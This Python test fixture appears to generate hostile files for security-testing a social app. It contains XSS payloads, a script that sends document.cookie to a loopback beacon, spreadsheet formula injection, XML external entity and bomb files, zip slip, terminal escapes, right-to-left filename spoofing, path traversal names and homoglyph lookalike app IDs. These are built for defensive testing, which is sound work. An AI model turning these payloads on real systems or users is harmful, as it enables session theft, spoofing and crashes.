"""What somebody stores who wants to harm whoever looks at it. Mallory keeps all of it.

Nothing here reaches beyond loopback: every beacon names a port of this machine that nobody opens.
"""

from tests.sample_life import documents, people, pictures, v0
from tests.sample_life.acts import Act, Case, Cases, moment_us
from tests.sample_life.v0 import ROOT

# The discard port (RFC 863): a page that is caught calling out calls here.
BEACON = "http://127.0.0.1:9/beacon"
FOLDER = "/pub/evil.example"
SCRIPT = f"new Image().src='{BEACON}?'+document.cookie;document.title='owned'"
_BEGIN_US = moment_us(2026, 10, 31, 23)

MARKUP = f'<script>{SCRIPT}</script><img src=x onerror="{SCRIPT}"><b>bold</b>'
ESCAPES = "\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;http://127.0.0.1:9/\x07click\x1b]8;;\x07\x08\x08\x9b1A"
BIDI = "user\u202e nimda si siht \u2066\u2069\u200f"

FORMULAS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "；=1+1",
)
"""What spreadsheets run when a table with it is opened."""

PROFILE_LINKS = (
    ("click me", "javascript:alert(document.domain)"),
    ("or me", "data:text/html,<script>alert(1)</script>"),
    ("JavaScript with a tab", "java\tscript:alert(1)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("credentials", "https://pubky.app:login@evil.example/"),
)

LOOKALIKE_TARGETS = ("pubky.app", "ring.pubky.app", "eventky.app", "paykit.app", "photo.example")
LOOKALIKES = 1000
_HOMOGLYPHS = {
    "a": "аɑα",
    "e": "еҽ",
    "g": "ɡ",
    "i": "іıɩ",
    "k": "κк",
    "o": "оοօ",
    "p": "рρ",
    "t": "τт",
    "u": "υս",
    "v": "ѵν",
    "x": "х",
    "y": "уү",
    ".": "\u2024\u3002\uff0e",
}
_UNSEEN = ("\u200b", "\u200c", "\u2060", "\u00ad", "\ufeff", "\u202e", "\u2069", " ", "\u0307")


def lookalike_client_ids() -> list[str]:
    """A thousand different names that look like those of apps that people trust."""
    found: dict[str, None] = {}
    for target in LOOKALIKE_TARGETS:
        for place, letter in enumerate(target):
            for other in _HOMOGLYPHS.get(letter, ""):
                found[target[:place] + other + target[place + 1 :]] = None
            for unseen in _UNSEEN:
                found[target[:place] + unseen + target[place:]] = None
    swaps = [(target, swap) for target in LOOKALIKE_TARGETS for swap in _HOMOGLYPHS]
    round_number = 0
    while len(found) < LOOKALIKES:
        for target, letter in swaps:
            glyphs = _HOMOGLYPHS[letter]
            name = target.replace(letter, glyphs[round_number % len(glyphs)])
            found[name + "\u200b" * (round_number + 1)] = None
        round_number += 1
    return [name for name in found if name not in LOOKALIKE_TARGETS][:LOOKALIKES]


def cases(owner: str) -> Cases:
    """Every hostile file, as it lies in this person's folders."""
    return _pages() | _bombs() | _texts() | _names() | _objects(owner)


def _at(name: str, body: bytes | str, why: str) -> Case:
    return Case(f"{FOLDER}/{name}", body.encode() if isinstance(body, str) else body, why)


def _pages() -> Cases:
    page = f'<!DOCTYPE html><title>x</title><link rel=stylesheet href="{BEACON}.css">{MARKUP}'
    form = f'<form action="{BEACON}" method=post><input name=pin autofocus></form>'
    refresh = f'<meta http-equiv=refresh content="0;url={BEACON}">'
    drawing = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script>'
        f'<image href="{BEACON}.png" width="9" height="9"/><foreignObject width="99" height="99">'
        f'<body xmlns="http://www.w3.org/1999/xhtml">{form}</body></foreignObject></svg>'
    )
    strict = (
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>'
        f"<script>//<![CDATA[\n{SCRIPT}\n//]]></script></head><body/></html>"
    )
    styled = (
        f'<?xml version="1.0"?><?xml-stylesheet href="{BEACON}.xsl" type="text/xsl"?>'
        f'<!DOCTYPE r [<!ENTITY e SYSTEM "{BEACON}">]><r>&e;</r>'
    )
    worker = f"self.addEventListener('fetch',e=>e.respondWith(fetch('{BEACON}')))"
    polyglot = b"GIF89a/*" + bytes(20) + f"*/=1;{SCRIPT}//".encode()
    return {
        "html": _at("page.html", page + refresh, "a page that calls out and moves on"),
        "html form": _at("sign-in.html", form, "a page that asks for a password"),
        "svg": _at("drawing.svg", drawing, "a drawing with scripts and a page in it"),
        "xhtml": _at("page.xhtml", strict, "a page in XML, in which a script runs"),
        "js": _at("worker.js", worker, "a service worker"),
        "xml": _at("feed.xml", styled, "XML with a style sheet and an external entity"),
        "css": _at("style.css", f"@import '{BEACON}.css';*{{display:none}}", "an import"),
        "polyglot": _at("picture.gif", polyglot, "a GIF by its first bytes, and a script"),
        "sniff bait": _at("notes.txt", page, "a page whose name ends in .txt"),
        "sniff bait without name": _at("notes", page, "a page whose name has no ending"),
        "page in capitals": _at("PAGE.HTM", page, "a page with another ending"),
        "pdf with script": _at(
            "form.pdf",
            documents.pdf().replace(
                b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
            ),
            "a PDF that runs something when opened",
        ),
    }


def _bombs() -> Cases:
    shapes = "".join(
        f'<g id="g{level}">' + f'<use href="#g{level - 1}"/>' * 10 + "</g>"
        for level in range(1, 10)
    )
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><path id="g0" d="M0 0h9v9z"/>{shapes}</svg>'
    entities = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10))
    laughs = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e0 "ha">{entities}]><r>&e9;</r>'
    return {
        "svg bomb": _at("bomb.svg", svg, "a thousand million shapes in two kilobytes"),
        "xml bomb": _at("laughs.xml", laughs, "a thousand million laughs"),
        "png of 200 megapixels": _at(
            "black.png", pictures.huge_png(20_000, 10_000), "hundreds of megabytes when decoded"
        ),
        "zip bomb": _at("bomb.zip", documents.zip_bomb(), "four gigabytes when unpacked"),
        "zip slip": _at("slip.zip", documents.zip_slip(), "wants to be unpacked elsewhere"),
        "json bomb": _at("deep.json", b'{"a":' * 20_000 + b"1" + b"}" * 20_000, "very deep"),
    }


def _texts() -> Cases:
    table = "name,amount\n" + "".join(f'"{each}",1\n' for each in FORMULAS)
    return {
        "csv formulas": _at("table.csv", table, "formulas that a spreadsheet would run"),
        "escapes": _at("log.txt", ESCAPES, "commands for a terminal"),
        "bidi text": _at("greeting.txt", BIDI, "characters that turn the text around"),
        "log lines": _at(
            "lines.txt", 'x\r\n127.0.0.1 - admin "GET /" 200\r\n', "a forged line of a log"
        ),
        "markup in text": _at("bold.txt", MARKUP, "elements if they were not escaped"),
        "template in text": _at(
            "template.txt", "{{ config }}{% for x in (1).__class__ %}", "a template"
        ),
        "many combining marks": _at(
            "zalgo.txt", "e" + "\u0301\u0316" * 5000, "one very tall letter"
        ),
        "one endless word": _at("word.txt", "w" * 400_000, "nothing to break the line at"),
    }


def _names() -> Cases:
    bait = "not what it seems\n"
    return {
        "exe as pdf": _at("invoice\u202efdp.exe", bait, "shown as invoiceexe.pdf"),
        "exe as jpg": _at("holiday\u202egpj.scr", bait, "shown as holidayrcs.jpg"),
        "markup name": _at("<img src=x onerror=alert(1)>.txt", bait, "an element in a name"),
        "attribute name": _at('"onmouseover="alert(1)" x=".txt', bait, "ends an attribute"),
        "formula name": _at("=1+1.csv", bait, "a formula in a list of files"),
        "header name": _at('x";filename="evil.html', bait, "ends a parameter of a header"),
        "zip name": _at("..%2f..%2fetc%2fpasswd", bait, "climbs out if decoded twice"),
        "double ending": _at("photo.jpg.html", MARKUP, "a picture to those who read half"),
        "spaces before the ending": _at("report.pdf" + " " * 60 + ".exe", bait, "hidden by spaces"),
        "template name": _at("{{7*7}}.txt", bait, "a template in a name"),
        "same as ours": _at(
            "static/dashboard.css", "*{display:none}", "named as a file of the pages"
        ),
    }


def _objects(owner: str) -> Cases:
    beacon = v0.post(
        _BEGIN_US, f"nice![]({BEACON}.png) ![x]({BEACON}) <img src={BEACON}> [here](javascript:1)"
    )
    hashtags = v0.post(_BEGIN_US + 1000, f"#<b>x</b> pk:{owner}<script> {BIDI} {ESCAPES}")
    profile = v0.profile(
        _BEGIN_US + 2000,
        f"{MARKUP[:30]}</title>",
        bio=f"{BIDI}{MARKUP}"[:160],
        image=f"{BEACON}.png",
        links=PROFILE_LINKS,
        status="=1+1",
    )
    article = v0.article(_BEGIN_US + 3000, MARKUP[:100], f"{MARKUP}\n\n![]({BEACON}.png)")
    attachments = [
        f"{BEACON}.png",
        "javascript:alert(1)",
        "data:image/svg+xml,<svg/>",
        "file:///etc",
    ]
    fetched = v0.post(_BEGIN_US + 4000, "look", kind="image", attachments=attachments)
    bookmark = v0.bookmark(_BEGIN_US + 5000, "javascript:alert(1)//https://example.com/")
    tag = v0.tag(_BEGIN_US + 6000, "https://example.com/", "<b>x</b>")
    feed = v0.feed(_BEGIN_US + 7000, f"{MARKUP[:80]}", ["<b>", "=1+1"])
    pretender = v0.profile(_BEGIN_US, "Ada", bio="The operator of this node. Send me your code.")
    told: dict[str, tuple[Act, str]] = {
        "markdown beacon": (beacon, "a picture that tells when it was read"),
        "odd hashtags": (hashtags, "markup where a client looks for links"),
        "markup profile": (profile, "a name with markup, and links that run scripts"),
        "markup article": (article, "markup in a title and a body"),
        "fetching attachments": (fetched, "pictures that are no pictures of ours"),
        "script bookmark": (bookmark, "a link that runs a script"),
        "markup tag": (tag, "a label with markup"),
        "markup feed": (feed, "a search with markup"),
    }
    found = {name: Case(act.path, act.body, why) for name, (act, why) in told.items()}
    pretended = f"{ROOT}/mutes/{people.key('ada')}"
    found["pretender"] = Case(f"{FOLDER}/profile.json", pretender.body, "poses as the operator")
    found["mutes the operator"] = Case(pretended, v0.dumped({"created_at": _BEGIN_US}), "rude")
    return found
